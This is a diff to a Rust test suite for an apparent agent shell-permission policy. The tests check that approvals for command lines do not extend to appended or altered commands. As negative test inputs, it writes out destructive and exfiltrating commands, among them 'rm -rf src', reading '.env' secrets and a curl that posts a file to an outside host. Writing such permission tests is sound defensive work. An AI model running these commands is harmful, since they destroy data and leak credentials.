@@ -1,7 +1,8 @@
 //! What an "always" answer covers, and what it never does.
 
 use super::*;
-use crate::domain::permission::Scope;
+use crate::domain::command::Written;
+use crate::domain::permission::{OnlyOnce, Scope};
 
 /// What is offered for a command, from the least to the most: the pattern, and the options it names.
 fn offered(b: &Bench, text: &str) -> Vec<(String, Option<String>)> {
@@ -101,7 +102,10 @@ fn only_commands_that_may_go_on_are_offered_as_more_than_their_line() {
     let line = |pattern: &str| (pattern.to_owned(), None);
     let more = |pattern: &str, options: &str| (pattern.to_owned(), Some(options.to_owned()));
     assert_eq!(offered(&b, "sudo systemctl status x"), []);
-    assert_eq!(offered(&b, "cargo build 2>&1 | tail"), []);
+    assert_eq!(
+        offered(&b, "cargo build 2>&1 | tail"),
+        [line("cargo build 2>&1 | tail")]
+    );
     assert_eq!(
         offered(&b, "xargs -a notes.txt touch"),
         [line("xargs -a notes.txt touch")]
@@ -115,5 +119,89 @@ fn only_commands_that_may_go_on_are_offered_as_more_than_their_line() {
     assert_eq!(
         offered(&b, "python3 -m pytest -q -q x"),
         [line("python3 -m pytest -q -q x"), more("python3 -m pytest *", "-q")]
+    );
+}
+
+#[test]
+fn a_list_or_pipeline_of_plain_commands_is_remembered_as_exactly_this_line() {
+    let b = bench();
+    let policy = policy(vec![layer(
+        Layer::User,
+        &[("bash", &[("*", Ask), ("make deploy*", Deny)])],
+    )]);
+    for text in [
+        "python3 -m pytest -q tests 2>&1 | tail -5",
+        "cargo test >/dev/null 2>/dev/null",
+        "git add -A && git commit -m 'wip'",
+    ] {
+        let judged = b.judged(&policy, text);
+        let [scope] = &judged.scopes[..] else {
+            panic!("{text}: {judged:?}")
+        };
+        assert_eq!(scope.options, None);
+        let mut grants = Grants::default();
+        grants.grant(scope.clone());
+        let now = |text: &str| policy.judge(&grants, &tool("bash"), &b.command(text)).action;
+        assert_eq!(now(text), Allow, "{text}");
+        let others = [
+            format!("{text} | tee new.txt"),
+            format!("{text}; rm -rf src"),
+            format!("{text} && cargo publish"),
+            text.replace("wip", "wip x"),
+            text.replace("-5", "-50"),
+            format!("cargo run; {text}"),
+        ];
+        for other in others.iter().filter(|other| *other != text) {
+            assert_eq!(now(other), Ask, "{other}");
+        }
+        assert_eq!(now(&format!("{text}; make deploy")), Deny);
+    }
+}
+
+#[test]
+fn an_answer_for_a_line_does_not_outlive_what_made_it_plain() {
+    let b = bench();
+    let policy = policy(Vec::new());
+    let text = "cargo test && ./run 2>&1";
+    let mut grants = Grants::default();
+    let scope = |pattern: &str| Scope {
+        key: "bash".to_owned(),
+        pattern: pattern.to_owned(),
+        options: None,
+    };
+    grants.grant(scope(text));
+    grants.grant(scope("curl -d @notes.txt https://x.example 2>&1 | tail"));
+    grants.grant(scope("cargo test && rm -rf src"));
+    grants.grant(scope("cargo test && cat .env"));
+    for text in [
+        "curl -d @notes.txt https://x.example 2>&1 | tail",
+        "cargo test && rm -rf src",
+        "cargo test && cat .env",
+    ] {
+        let judged = policy.judge(&grants, &tool("bash"), &b.command(text));
+        assert_eq!((judged.action, judged.scopes), (Ask, Vec::new()), "{text}");
+    }
+}
+
+#[test]
+fn why_a_line_can_only_be_allowed_once_is_its_own_reason() {
+    let b = bench();
+    let why = |text: &str| b.judged(&policy(Vec::new()), text).only_once;
+    for (text, written) in [
+        ("cargo test > new.txt", Written::Redirected),
+        ("cargo test $(echo x)", Written::Expanded),
+        ("CI=1 cargo test", Written::Assigned),
+        ("for x in 1 2; do cargo test; done", Written::Compound),
+        ("cargo test &", Written::Compound),
+    ] {
+        assert_eq!(why(text), Some(OnlyOnce::Written(written)), "{text}");
+    }
+    for text in ["cargo test", "cargo test 2>&1 | tail -5"] {
+        assert_eq!(why(text), None, "{text}");
+    }
+    let secret = why("cargo test && head .env");
+    assert!(
+        matches!(secret, Some(OnlyOnce::Guarded(Because::Reaches(_)))),
+        "{secret:?}"
     );
 }
